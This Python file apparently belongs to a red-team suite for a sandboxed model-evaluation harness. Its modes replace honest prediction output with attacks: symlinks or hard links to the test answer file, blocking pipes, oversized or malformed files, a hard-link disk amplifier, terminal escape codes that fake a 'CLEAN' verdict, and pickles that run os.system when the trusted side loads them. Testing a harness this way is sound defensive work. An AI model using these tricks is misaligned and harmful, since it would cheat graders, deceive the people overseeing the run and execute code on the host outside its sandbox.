"""Route class: outputs the trusted side reads back (and cleans up) after the run.

``python3 output_tricks.py {inputs} {outputs} _ext.py MODE [ARG]`` leaves, in place of an
honest ``predictions.jsonl``:

- ``link PATH``: a symbolic link to a host file (a perfect answer sheet, if the reader follows it);
- ``link-job``: a link to its own input ``/w2s/job/test.jsonl``;
- ``hardlink-job``: a hard link to it (else nothing);
- ``fifo``: a named pipe (a reader that blocks on it hangs the pipeline);
- ``directory``: a directory;
- ``sparse``: a 900 MiB sparse file (cheap to make, costly to read);
- ``digits``: a probability of 5000 digits; ``nan``, ``infinity``: NaN and Infinity;
- ``deep-json``: 100000 nested brackets; ``bad-utf8``: bytes that decode to nothing;
- ``deep-dirs N``: honest predictions beside N nested directories (the clean-up must cope);
- ``escape``: no predictions, and a last stderr line of terminal escape sequences that would
  rewrite what the user's terminal shows (e.g. a fake ``CLEAN`` verdict);
- ``hardlinks N``: honest predictions, and beside them a directory named ``error.json`` (a name
  the jail copies out when the program ends) holding one file of the largest size allowed and
  N-1 hard links to it: N files' worth of host disk for one file's worth of the outputs tmpfs,
  if the copy out follows the directory and does not keep the links;
- ``pickles PATH``: honest predictions, and beside them pickles (``result.pkl``,
  ``predictions.pkl``, ``job.pkl``, ``model.pt``, ``predictions.npy``) whose loading runs code
  that creates the host file ``PATH``: a trusted side that unpickles anything the jail wrote
  runs the attacker's code.
"""
from __future__ import annotations

import json
import os
import pickle
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
try:
    from attacks import _ext
except ImportError:
    import _ext

class _Payload:
    """Unpickling this creates the file ``path`` (through ``os.system``)."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self):
        return os.system, (f"touch {self.path}",)


FAKE = "\x1b[1A\x1b[2K\r\x1b[32mCLEAN attack ladder=micro rung=m0: clean\x1b[0m\x07"


def main(argv: list[str]) -> None:
    inputs, outputs = argv[1], argv[2]
    ids, _ = _ext.test_split(inputs)
    args = _ext.args_after(argv)
    mode = args[0]
    target = os.path.join(outputs, "predictions.jsonl")
    first = ids[0]
    if mode == "link":
        os.symlink(args[1], target)
    elif mode == "link-job":
        os.symlink("/w2s/job/test.jsonl", target)
    elif mode == "hardlink-job":
        try:
            os.link("/w2s/job/test.jsonl", target)
        except OSError as err:
            print(f"hard link refused: {err.strerror}", file=sys.stderr)
    elif mode == "fifo":
        os.mkfifo(target)
    elif mode == "directory":
        os.mkdir(target)
    elif mode == "sparse":
        with open(target, "wb") as handle:
            handle.truncate(900 << 20)
    elif mode in ("digits", "nan", "infinity"):
        value = {"digits": "9" * 5000, "nan": "NaN", "infinity": "Infinity"}[mode]
        with open(target, "w") as handle:
            handle.write(f'{{"id": {json.dumps(first)}, "prob": {value}}}\n')
    elif mode == "deep-json":
        with open(target, "w") as handle:
            handle.write("[" * 100_000 + "]" * 100_000 + "\n")
    elif mode == "bad-utf8":
        with open(target, "wb") as handle:
            handle.write(b'{"id": "\xff\xfe", "prob": 0.5}\n')
    elif mode == "deep-dirs":
        _ext.write_predictions(outputs, ids, _ext.predictions(ids, {}))
        os.chdir(outputs)
        for _ in range(int(args[1])):
            os.mkdir("d")
            os.chdir("d")
    elif mode == "hardlinks":
        _ext.write_predictions(outputs, ids, _ext.predictions(ids, {}))
        amplifier = os.path.join(outputs, "error.json")
        os.mkdir(amplifier)
        size = int(args[2]) if len(args) > 2 else 1 << 20
        with open(os.path.join(amplifier, "0"), "wb") as handle:
            handle.write(b"w" * size)
        for index in range(1, int(args[1])):
            os.link(os.path.join(amplifier, "0"), os.path.join(amplifier, str(index)))
    elif mode == "pickles":
        _ext.write_predictions(outputs, ids, _ext.predictions(ids, {}))
        payload = pickle.dumps(_Payload(args[1]))
        for name in ("result.pkl", "predictions.pkl", "job.pkl", "model.pt",
                     "predictions.npy"):
            with open(os.path.join(outputs, name), "wb") as handle:
                handle.write(payload)
    elif mode == "escape":
        print(FAKE, file=sys.stderr)
        sys.exit(3)
    else:
        raise SystemExit(f"unknown mode {mode}")


if __name__ == "__main__":
    main(sys.argv)
